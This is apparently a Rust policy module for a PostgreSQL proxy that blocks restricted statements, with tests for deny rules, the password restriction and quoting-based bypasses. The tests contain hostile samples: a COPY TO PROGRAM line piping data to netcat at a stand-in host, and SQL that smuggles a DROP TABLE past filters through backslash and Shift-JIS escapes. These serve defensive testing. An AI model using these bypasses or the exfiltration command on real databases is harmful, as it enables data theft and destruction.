//! Statements the proxy refuses before PostgreSQL sees them: password commands by anyone
//! but the password admins (like RDS's `rds.restrict_password_commands`), and the
//! operator's deny rules, CEL conditions over the parsed statement and the session.
//!
//! A text is judged by every way PostgreSQL could read it, not only by the reading the
//! proxy believes the session uses: the session's `standard_conforming_strings` can change
//! in the same write as the query (a pipelined `SET`), and the proxy learns of it only from
//! the server's reply. So a text with a backslash is also read with backslash escapes the
//! other way round, and a text with a backslash right after a character the proxy could
//! not decode as UTF-8 (the trail byte of a Shift-JIS, Big5, GBK or UHC character is a
//! backslash to anyone who does not know the encoding) is also read without that
//! backslash. If any reading is denied, the text is denied. (`backslash_quote` and
//! `escape_string_warning` only make the server reject or warn about a text, never read
//! it otherwise.) A text that no reading parses is denied when deny rules exist
//! (`on_unparsable = "deny"`, the default): a rule cannot judge what it cannot read, and
//! the parser's grammar, newer than the server's, rejects nothing the server would run.
//!
//! A verdict depends only on the statement's analysis (class, command, objects, traits)
//! and on the session's user, database, application and identity. It is cached under that
//! analysis and a key of those session facts, so a repeated statement costs a hash lookup
//! after its classification (itself cached). Without a `[policy]` the relay never calls
//! in here.

use std::collections::{HashMap, HashSet};
use std::sync::{Arc, Mutex};

use cel::{Context, Program, Value};
use pgtrail_event::{Classified, Classifier, EventClass, Statement};

use crate::ProxyError;
use crate::config::{DenyRule, PolicyConfig, Unparsable};
use crate::tracker::{SessionFacts, fill_statement};

/// Why a statement is refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Denial {
    /// The rule's name (`restrict_password_commands` for the built-in one).
    pub(crate) rule: Arc<str>,
    /// What the client is told.
    pub(crate) message: Arc<str>,
}

/// Session key -> statement analysis key -> verdict; `entries` bounds the total.
#[derive(Default)]
struct VerdictCache {
    sessions: HashMap<Arc<str>, HashMap<Arc<str>, Option<Denial>>>,
    entries: usize,
}

struct CompiledRule {
    name: Arc<str>,
    condition: Program,
    message: Arc<str>,
}

/// The compiled policy.
pub(crate) struct Policy {
    restrict_passwords: bool,
    deny_unparsable: bool,
    password_admins: HashSet<String>,
    rules: Vec<CompiledRule>,
    cache: Mutex<VerdictCache>,
}

impl std::fmt::Debug for Policy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Policy").field("rules", &self.rules.len()).finish_non_exhaustive()
    }
}

const CACHE_CAPACITY: usize = 10_000;
pub(crate) const PASSWORD_RULE: &str = "restrict_password_commands";
pub(crate) const UNPARSABLE_RULE: &str = "on_unparsable";

/// What the policy made of a Query or Parse text.
#[derive(Debug)]
pub(crate) enum Judgement {
    /// Relay it; the classification is the session's own reading, for the event.
    Allowed(Arc<Classified>),
    /// Refuse it: the statement that was denied (in the reading that denied it), and why.
    Denied(Statement, Denial),
}

/// One way PostgreSQL may read a text.
struct Reading<'a> {
    text: std::borrow::Cow<'a, str>,
    standard_conforming_strings: bool,
}

/// The readings of `text` other than the session's own (see the module doc): none, and
/// no allocation, for a text without a backslash.
fn other_readings(text: &str, standard_conforming_strings: bool) -> Vec<Reading<'_>> {
    let mut out = Vec::new();
    if !text.contains('\\') {
        return out;
    }
    out.push(Reading { text: text.into(), standard_conforming_strings: !standard_conforming_strings });
    let mut previous_non_ascii = false;
    let without_trail_backslashes: String = text
        .chars()
        .map(|c| {
            let swallowed = c == '\\' && previous_non_ascii;
            previous_non_ascii = !c.is_ascii();
            if swallowed { 'x' } else { c }
        })
        .collect();
    if without_trail_backslashes != text {
        for scs in [true, false] {
            out.push(Reading { text: without_trail_backslashes.clone().into(), standard_conforming_strings: scs });
        }
    }
    out
}

impl Policy {
    /// Compiles the configuration; `None` when there is nothing to check.
    pub(crate) fn compile(config: &PolicyConfig, token_login: bool) -> Result<Option<Self>, ProxyError> {
        let restrict_passwords = config.restrict_password_commands.unwrap_or(token_login);
        if !restrict_passwords && config.deny.is_empty() {
            return Ok(None);
        }
        let mut names = HashSet::new();
        let mut rules = Vec::new();
        for DenyRule { name, when, message } in &config.deny {
            if !names.insert(name.as_str()) {
                return Err(ProxyError::Config(format!("policy.deny: two rules are named {name:?}")));
            }
            let condition = Program::compile(when).map_err(|e| {
                ProxyError::Config(format!("policy.deny {name:?}: the condition does not compile: {e}"))
            })?;
            // Try it on a sample, so a misspelt variable fails at start, not per statement.
            let sample = sample_context();
            match condition.execute(&sample) {
                Ok(Value::Bool(_)) => {}
                Ok(_) => {
                    return Err(ProxyError::Config(format!("policy.deny {name:?}: the condition is not a boolean")));
                }
                Err(e) => return Err(ProxyError::Config(format!("policy.deny {name:?}: {e}"))),
            }
            rules.push(CompiledRule { name: name.as_str().into(), condition, message: message.as_str().into() });
        }
        Ok(Some(Self {
            restrict_passwords,
            deny_unparsable: !config.deny.is_empty() && config.on_unparsable == Unparsable::Deny,
            password_admins: config.password_admins.iter().cloned().collect(),
            rules,
            cache: Mutex::new(VerdictCache::default()),
        }))
    }

    /// The session facts a verdict may depend on, as one cache key part.
    pub(crate) fn session_key(facts: &SessionFacts) -> Arc<str> {
        let identity = facts.identity.as_ref().map(|i| serde_json::to_string(i).unwrap_or_default());
        Arc::from(format!("{:?}\0{:?}\0{:?}\0{:?}", facts.user, facts.database, facts.application, identity))
    }

    /// Judges a Query or Parse text by every reading PostgreSQL may give it.
    pub(crate) fn judge(
        &self,
        classifier: &Classifier,
        text: &str,
        standard_conforming_strings: bool,
        facts: &SessionFacts,
        session_key: &Arc<str>,
    ) -> Judgement {
        let own = classifier.classify_with(text, standard_conforming_strings);
        let mut any_parsed = false;
        let session_reading = Reading { text: text.into(), standard_conforming_strings };
        let readings = std::iter::once(session_reading).chain(other_readings(text, standard_conforming_strings));
        for (i, reading) in readings.enumerate() {
            let classified = if i == 0 {
                Arc::clone(&own)
            } else {
                classifier.classify_with(&reading.text, reading.standard_conforming_strings)
            };
            // A reading the parser rejects is one the server rejects too.
            if classified.statements.iter().any(|s| s.command.is_none()) {
                continue;
            }
            any_parsed = true;
            if let Some((index, denial)) = self.check(&classified, facts, session_key) {
                return Judgement::Denied(classified.statements[index].clone(), denial);
            }
            if self.restrict_passwords
                && !self.is_password_admin(facts)
                && let Some(index) =
                    pgtrail_event::password_change_in_literals(&reading.text, reading.standard_conforming_strings)
            {
                let statement = classified.statements.get(index).or(classified.statements.last());
                return Judgement::Denied(
                    statement.cloned().unwrap_or_else(|| own_statement(&own, text)),
                    password_denial(),
                );
            }
        }
        if !any_parsed && self.deny_unparsable {
            let denial = Denial {
                rule: UNPARSABLE_RULE.into(),
                message: "the statement could not be parsed, and deny rules cannot judge what they cannot read \
                          (policy.on_unparsable)"
                    .into(),
            };
            return Judgement::Denied(own_statement(&own, text), denial);
        }
        Judgement::Allowed(own)
    }

    /// The first statement of `classified` to refuse (its index) and why, if there is one.
    pub(crate) fn check(
        &self,
        classified: &Classified,
        facts: &SessionFacts,
        session_key: &Arc<str>,
    ) -> Option<(usize, Denial)> {
        classified
            .statements
            .iter()
            .enumerate()
            .find_map(|(i, s)| Some((i, self.check_statement(s, facts, session_key)?)))
    }

    fn check_statement(&self, statement: &Statement, facts: &SessionFacts, session_key: &Arc<str>) -> Option<Denial> {
        // Text the parser rejected: PostgreSQL rejects it too.
        statement.fingerprint.as_ref()?;
        // Everything a verdict depends on, not only the fingerprint: two readings of one
        // text must never share a verdict unless their analyses are equal. Looked up by
        // reference: a hit allocates nothing.
        let analysis = &statement.analysis_key;
        if let Some(hit) = self.lock().sessions.get(session_key).and_then(|s| s.get(analysis)) {
            return hit.clone();
        }
        let verdict = self.decide(statement, facts);
        let mut cache = self.lock();
        if cache.entries >= CACHE_CAPACITY {
            // Crude but bounded, like the classifier's cache.
            *cache = VerdictCache::default();
        }
        cache.entries += 1;
        cache.sessions.entry(Arc::clone(session_key)).or_default().insert(Arc::clone(analysis), verdict.clone());
        verdict
    }

    fn decide(&self, statement: &Statement, facts: &SessionFacts) -> Option<Denial> {
        if self.restrict_passwords && statement.traits.sets_password && !self.is_password_admin(facts) {
            return Some(password_denial());
        }
        if self.rules.is_empty() {
            return None;
        }
        let context = context_for(statement, facts);
        self.rules.iter().find_map(|rule| match rule.condition.execute(&context) {
            Ok(Value::Bool(true)) => Some(Denial { rule: Arc::clone(&rule.name), message: Arc::clone(&rule.message) }),
            Ok(_) => None,
            Err(e) => {
                // A rule that cannot be evaluated denies: failing open would let anything
                // that confuses it through.
                tracing::warn!(rule = %rule.name, error = %e, "deny rule failed to evaluate; denying");
                Some(Denial { rule: Arc::clone(&rule.name), message: Arc::clone(&rule.message) })
            }
        })
    }

    fn is_password_admin(&self, facts: &SessionFacts) -> bool {
        let user = facts.user.as_deref().is_some_and(|u| self.password_admins.contains(u));
        let person = facts.identity.as_ref().is_some_and(|i| {
            self.password_admins.contains(&i.subject)
                || i.email.as_ref().is_some_and(|e| self.password_admins.contains(e))
        });
        // With token login the person must be an admin; the database user alone is not
        // enough, since a mapping may give many people the same user.
        if facts.identity.is_some() { person } else { user }
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, VerdictCache> {
        self.cache.lock().unwrap_or_else(|p| p.into_inner())
    }
}

fn password_denial() -> Denial {
    Denial {
        rule: PASSWORD_RULE.into(),
        message: "setting a password is restricted to the password admins (policy.restrict_password_commands)".into(),
    }
}

/// The statement to record for a denial when the reading that denied it has none to name.
fn own_statement(own: &Classified, text: &str) -> Statement {
    own.statements.first().cloned().unwrap_or_else(|| Statement::unparsed(text, true))
}

fn text(value: Option<&str>) -> Value {
    value.map_or(Value::Null, |s| Value::from(s.to_owned()))
}

/// What a deny rule sees: the statement as the event it would be recorded as, in the one
/// vocabulary of alert rules (`class`, `command`, `objects`, `dbUserName`, `databaseName`,
/// `clientApplication`, `identity`, `hasWhere`, `copyProgram`, `setsPassword`...; see
/// `pgtrail_rules::vocabulary`), plus the names of earlier versions (`statement.class`,
/// `statement.command`, `statement.objects` as names, `statement.hasWhere`, ...,
/// `user`, `database`, `application`), so existing rule files keep working.
fn context_for(statement: &Statement, facts: &SessionFacts) -> Context<'static> {
    let class = statement.class.unwrap_or(EventClass::Misc);
    let command = statement.command.clone().unwrap_or_else(|| "UNKNOWN".into());
    let mut event = facts.event(class, command, chrono::Utc::now());
    fill_statement(&mut event, statement);
    let mut context = pgtrail_rules::vocabulary::context_for(&pgtrail_rules::vocabulary::event_fields(&event));
    let objects: Vec<Value> = statement.objects.iter().map(|o| Value::from(o.name.clone())).collect();
    let legacy_class =
        statement.class.map(|c| serde_json::to_value(c).ok().and_then(|v| v.as_str().map(str::to_owned)));
    let fields: HashMap<String, Value> = [
        ("class", text(legacy_class.flatten().as_deref())),
        ("command", text(statement.command.as_deref())),
        ("objects", Value::from(objects)),
        ("hasWhere", Value::Bool(statement.traits.has_where)),
        ("copyProgram", Value::Bool(statement.traits.copy_program)),
        ("setsPassword", Value::Bool(statement.traits.sets_password)),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v))
    .collect();
    context.add_variable_from_value("statement", Value::from(fields));
    context.add_variable_from_value("user", text(facts.user.as_deref()));
    context.add_variable_from_value("database", text(facts.database.as_deref()));
    context.add_variable_from_value("application", text(facts.application.as_deref()));
    context
}

fn sample_context() -> Context<'static> {
    let classifier = pgtrail_event::Classifier::new(1);
    let classified = classifier.classify("UPDATE accounts SET balance = 0");
    let facts = SessionFacts {
        user: Some("alice".into()),
        database: Some("bank".into()),
        identity: Some(Arc::new(pgtrail_event::Identity {
            issuer: "https://idp.example".into(),
            subject: "alice".into(),
            name: Some("Alice".into()),
            email: Some("alice@example.com".into()),
            groups: vec!["dba".into()],
            token_id: None,
            auth_method: "oidc".into(),
        })),
        ..SessionFacts::default()
    };
    context_for(&classified.statements[0], &facts)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy(toml_rules: &[(&str, &str)], restrict: Option<bool>, admins: &[&str]) -> Policy {
        let config = PolicyConfig {
            restrict_password_commands: restrict,
            password_admins: admins.iter().map(|a| (*a).to_owned()).collect(),
            deny: toml_rules
                .iter()
                .map(|(name, when)| DenyRule { name: (*name).into(), when: (*when).into(), message: "no".into() })
                .collect(),
            ..PolicyConfig::default()
        };
        Policy::compile(&config, false).expect("compiles").expect("something to check")
    }

    fn check(policy: &Policy, sql: &str, facts: &SessionFacts) -> Option<String> {
        judge(policy, &Classifier::new(10), sql, true, facts)
    }

    fn judge(policy: &Policy, classifier: &Classifier, sql: &str, scs: bool, facts: &SessionFacts) -> Option<String> {
        match policy.judge(classifier, sql, scs, facts, &Policy::session_key(facts)) {
            Judgement::Allowed(_) => None,
            Judgement::Denied(_, denial) => Some(denial.rule.to_string()),
        }
    }

    /// Issue 12.1: a text judged by the reading the proxy believed the session had
    /// (standard_conforming_strings on) ran under the other one (a pipelined SET), and a
    /// parse cached under one setting was reused under the other.
    /// Issue 14.5: deny rules use the alert rules' names; the earlier names keep working.
    #[test]
    fn the_one_vocabulary_and_the_earlier_names_agree() {
        let facts = SessionFacts {
            user: Some("app".into()),
            database: Some("bank".into()),
            application: Some("psql".into()),
            ..SessionFacts::default()
        };
        let pairs = [
            (r#"command == "DELETE" && !hasWhere"#, r#"statement.command == "DELETE" && !statement.hasWhere"#),
            (
                r#"class == "WRITE" && objects.exists(o, o.name == "accounts")"#,
                r#"statement.class == "WRITE" && statement.objects.exists(o, o == "accounts")"#,
            ),
            (
                r#"dbUserName == "app" && databaseName == "bank" && clientApplication == "psql""#,
                r#"user == "app" && database == "bank" && application == "psql""#,
            ),
            ("copyProgram", "statement.copyProgram"),
        ];
        let texts = [
            "DELETE FROM accounts",
            "DELETE FROM accounts WHERE id = 1",
            "UPDATE accounts SET balance = 0",
            "COPY accounts TO PROGRAM 'cat'",
            "SELECT 1",
        ];
        for (new, old) in pairs {
            let (new_policy, old_policy) =
                (policy(&[("r", new)], Some(false), &[]), policy(&[("r", old)], Some(false), &[]));
            for text in texts {
                let verdicts = (check(&new_policy, text, &facts), check(&old_policy, text, &facts));
                assert_eq!(verdicts.0, verdicts.1, "{new:?} vs {old:?} on {text:?}");
            }
        }
        let unfiltered = policy(&[("r", r#"command == "DELETE" && !hasWhere"#)], Some(false), &[]);
        assert!(check(&unfiltered, "DELETE FROM accounts", &facts).is_some());
        assert!(check(&unfiltered, "DELETE FROM accounts WHERE id = 1", &facts).is_none());
    }

    #[test]
    fn regression_deny_rule_bypassed_through_standard_conforming_strings() {
        let p = policy(&[("no drop", r#"statement.command == "DROP TABLE""#)], Some(false), &[]);
        let facts = SessionFacts { user: Some("app".into()), ..SessionFacts::default() };
        let text = "SELECT 1; SELECT 'a\\'' ; DROP TABLE victim; -- '";
        let shared = Classifier::new(100);
        for scs in [true, false, true] {
            assert_eq!(judge(&p, &shared, text, scs, &facts).as_deref(), Some("no drop"), "scs {scs}");
        }
        // The one-statement form that hides the DROP from the other reading.
        assert_eq!(
            judge(&p, &shared, "SELECT 'a\\' ; DROP TABLE victim; --'", true, &facts).as_deref(),
            Some("no drop")
        );
        assert_eq!(
            judge(&p, &shared, "SELECT 'a\\' ; DROP TABLE victim; --'", false, &facts).as_deref(),
            Some("no drop")
        );
        // Backslashes that change nothing are allowed in both readings.
        assert_eq!(judge(&p, &shared, "SELECT 'C:\\temp'", true, &facts), None);
    }

    /// Issue 12.1: in Shift-JIS (and Big5, GBK, UHC) the second byte of a character can be
    /// a backslash; read as UTF-8 it escapes the quote that really ends the literal.
    #[test]
    fn regression_deny_rule_bypassed_through_a_multibyte_trail_backslash() {
        let p = policy(&[("no drop", r#"statement.command == "DROP TABLE""#)], Some(false), &[]);
        let facts = SessionFacts { user: Some("app".into()), ..SessionFacts::default() };
        // What the proxy sees of E'<0x83 0x5C>' ; DROP TABLE victim; --' (lossy UTF-8).
        let text = "SELECT E'\u{fffd}\\' ; DROP TABLE victim; --'";
        assert_eq!(judge(&p, &Classifier::new(10), text, true, &facts).as_deref(), Some("no drop"));
    }

    #[test]
    fn unparsable_text_is_denied_while_deny_rules_exist() {
        let facts = SessionFacts { user: Some("app".into()), ..SessionFacts::default() };
        let p = policy(&[("no drop", r#"statement.command == "DROP TABLE""#)], Some(false), &[]);
        assert_eq!(check(&p, "selec 1", &facts).as_deref(), Some(UNPARSABLE_RULE));
        assert_eq!(check(&p, "-- only a comment", &facts), None);
        let config = PolicyConfig {
            deny: vec![DenyRule { name: "r".into(), when: "false".into(), message: "m".into() }],
            on_unparsable: Unparsable::Allow,
            ..PolicyConfig::default()
        };
        let allow = Policy::compile(&config, false).expect("compiles").expect("policy");
        assert_eq!(check(&allow, "selec 1", &facts), None);
        // The password restriction alone lets the server reject what it cannot parse.
        let restriction = policy(&[], Some(true), &[]);
        assert_eq!(check(&restriction, "selec 1", &facts), None);
    }

    /// Issue 12.3: a DO block or function body that changes a password, directly or
    /// through dynamic SQL, escaped the restriction.
    #[test]
    fn regression_password_restriction_escaped_through_do_blocks_and_functions() {
        let p = policy(&[], Some(true), &["postgres"]);
        let alice = SessionFacts { user: Some("alice".into()), ..SessionFacts::default() };
        let postgres = SessionFacts { user: Some("postgres".into()), ..SessionFacts::default() };
        for sql in [
            "DO $$ BEGIN EXECUTE 'ALTER ROLE alice PASSWORD ''y'''; END $$",
            "DO $$ BEGIN EXECUTE 'ALTER ROLE alice PASS'||'WORD ''y'''; END $$",
            "DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', 'alice', 'y'); END $$",
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$BEGIN EXECUTE 'ALTER ROLE alice PASSWORD ''y'''; END$f$",
            "SELECT 1; DO $$ BEGIN ALTER ROLE alice PASSWORD 'y'; END $$",
        ] {
            assert_eq!(check(&p, sql, &alice).as_deref(), Some(PASSWORD_RULE), "{sql}");
            assert_eq!(check(&p, sql, &postgres), None, "{sql}");
        }
        assert_eq!(check(&p, "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", &alice), None);
    }

    fn human() -> SessionFacts {
        let mut facts = sample_facts();
        facts.user = Some("alice".into());
        facts
    }

    fn sample_facts() -> SessionFacts {
        SessionFacts {
            identity: Some(Arc::new(pgtrail_event::Identity {
                issuer: "https://idp".into(),
                subject: "alice".into(),
                name: None,
                email: Some("alice@example.com".into()),
                groups: vec!["engineering".into()],
                token_id: None,
                auth_method: "oidc".into(),
            })),
            ..SessionFacts::default()
        }
    }

    #[test]
    fn deny_rules_see_the_parsed_statement_and_the_person() {
        let p = policy(
            &[
                ("no DDL for humans", r#"statement.class == "DDL" && identity != null"#),
                ("no COPY PROGRAM", "statement.copyProgram"),
                (
                    "no unfiltered writes on accounts",
                    r#"statement.command in ["UPDATE", "DELETE"] && !statement.hasWhere && statement.objects.exists(o, o == "accounts")"#,
                ),
            ],
            Some(false),
            &[],
        );
        let alice = human();
        let service = SessionFacts { user: Some("app".into()), ..SessionFacts::default() };
        assert_eq!(check(&p, "CREATE TABLE t (x int)", &alice).as_deref(), Some("no DDL for humans"));
        assert_eq!(check(&p, "CREATE TABLE t (x int)", &service), None);
        assert_eq!(check(&p, "COPY accounts TO PROGRAM 'nc evil 1'", &service).as_deref(), Some("no COPY PROGRAM"));
        assert_eq!(check(&p, "DELETE FROM accounts", &service).as_deref(), Some("no unfiltered writes on accounts"));
        assert_eq!(check(&p, "DELETE FROM accounts WHERE id = 1", &service), None);
        assert_eq!(check(&p, "DELETE FROM other", &service), None);
        // Any statement of a multi-statement text.
        assert_eq!(
            check(&p, "SELECT 1; UPDATE accounts SET b = 0", &service).as_deref(),
            Some("no unfiltered writes on accounts")
        );
        // The verdict is cached per shape and session: same answer, whatever the constants.
        assert_eq!(check(&p, "DELETE FROM accounts WHERE id = 2", &service), None);
    }

    #[test]
    fn password_commands_only_for_admins() {
        let p = policy(&[], Some(true), &["postgres", "carol@example.com"]);
        let alice = human();
        assert_eq!(check(&p, "ALTER USER alice PASSWORD 'x'", &alice).as_deref(), Some(PASSWORD_RULE));
        assert_eq!(check(&p, "ALTER USER alice NOLOGIN", &alice), None);
        let postgres = SessionFacts { user: Some("postgres".into()), ..SessionFacts::default() };
        assert_eq!(check(&p, "ALTER USER alice PASSWORD 'x'", &postgres), None);
        // A person logged in as the admin database user is not an admin.
        let mut alice_as_postgres = human();
        alice_as_postgres.user = Some("postgres".into());
        assert_eq!(check(&p, "CREATE ROLE r PASSWORD 'x'", &alice_as_postgres).as_deref(), Some(PASSWORD_RULE));
        let mut carol = human();
        Arc::make_mut(carol.identity.as_mut().expect("identity")).email = Some("carol@example.com".into());
        assert_eq!(check(&p, "CREATE ROLE r PASSWORD 'x'", &carol), None);
    }

    #[test]
    fn bad_rules_fail_at_start() {
        for when in ["statement.klass == 1", "statement.class", "(("] {
            let config = PolicyConfig {
                deny: vec![DenyRule { name: "r".into(), when: when.into(), message: "m".into() }],
                ..PolicyConfig::default()
            };
            assert!(Policy::compile(&config, false).is_err(), "{when}");
        }
        assert!(Policy::compile(&PolicyConfig::default(), false).expect("ok").is_none());
    }
}
